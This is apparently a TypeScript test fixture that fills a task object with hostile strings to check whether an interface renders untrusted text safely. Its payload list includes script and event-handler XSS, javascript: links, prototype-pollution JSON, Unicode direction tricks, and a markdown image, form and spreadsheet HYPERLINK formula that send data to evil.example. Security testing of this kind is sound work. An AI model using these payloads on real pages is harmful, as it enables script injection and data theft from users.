import type { Task } from '../../src/core/task.ts';

/** What a hostile file or model would say to a page. Whatever runs of it sets `hacked`; what it fetches is on evil.example. */

/** Right-to-left override, an isolate that is never closed, and signs that take no room. */
export const HIDDEN = '\u202Eneddih\u2066\u200B\u200D\u2060\uFEFF\u00AD';

/** A hundred thousand letters without a place to break a line. */
export const LONG = 'Wide'.repeat(25_000);

export const ATTACKS: readonly string[] = [
  `<script>globalThis.hacked='script'</script>`,
  `<img src=x onerror="globalThis.hacked='img'">`,
  `<svg onload="hacked='svg'"><animate onbegin="hacked='animate'" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.hacked='frame'</script>"></iframe>`,
  `"><script>globalThis.hacked='attribute'</script>`,
  `' onmouseover='hacked=1' autofocus onfocus='hacked=1`,
  `</textarea></title></style><script>hacked='raw text'</script>`,
  `<a href="javascript:hacked='link'">click</a> [click](javascript:hacked=1)`,
  `![pixel](https://evil.example/pixel.png?leak=prompt)`,
  `<link rel=stylesheet href=https://evil.example/x.css><base href="https://evil.example/">`,
  `<style>*{display:none!important} body{background:url(https://evil.example/css)}</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button>OK</button></form>`,
  `{{constructor.constructor('hacked=1')()}} \${globalThis.hacked='template'} {@html '<b>'}`,
  `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}`,
  `__proto__`,
  `=HYPERLINK("https://evil.example/?leak="&A1,"x")`,
  `${HIDDEN} the text behind is turned`,
  `Z${'\u0300\u0301\u0302\u0303\u0334\u0335\u0338'.repeat(12)}`,
  `\u05E9\u05DC\u05D5\u05DD (1) \u0645\u0631\u062D\u0628\u0627`,
  `\u001B[31m\u001B]8;;https://evil.example\u0007x\u0007\u009B2J`,
];

/** A task whose every text is an attack. */
export function hostileTask(id = 'hostile'): Task {
  const attack = (n: number) => ATTACKS[n % ATTACKS.length] ?? '';
  const split = (name: string, from: number, count: number) =>
    Array.from({ length: count }, (_, i) => ({
      id: `${name}-${i} ${attack(from + i)}`.slice(0, 100),
      input: `${name} ${i}: ${attack(from + i)} ${HIDDEN} ${i === 2 ? LONG.slice(0, 90_000) : ''}`,
      gold: [i % 2 === 0 ? 'positive' : 'negative'],
    }));
  return {
    id,
    name: `${HIDDEN} <img src=x onerror=hacked=1>`,
    description: `${attack(0)} ${attack(8)} ${HIDDEN}`,
    note: `${attack(10)} ${LONG.slice(0, 1500)}`,
    initialPrompt: `${attack(2)} ${attack(9)} ${HIDDEN} ${LONG.slice(0, 3000)}`,
    metric: { kind: 'choice', options: ['positive', 'negative'] },
    position: 'before',
    markers: { input: `${attack(5).slice(0, 60)}\u202E`, answer: 'Answer' },
    answerTokens: 4,
    splits: {
      train: split('train', 0, 6),
      validation: split('validation', 6, 6),
      test: split('test', 12, 8),
    },
  };
}
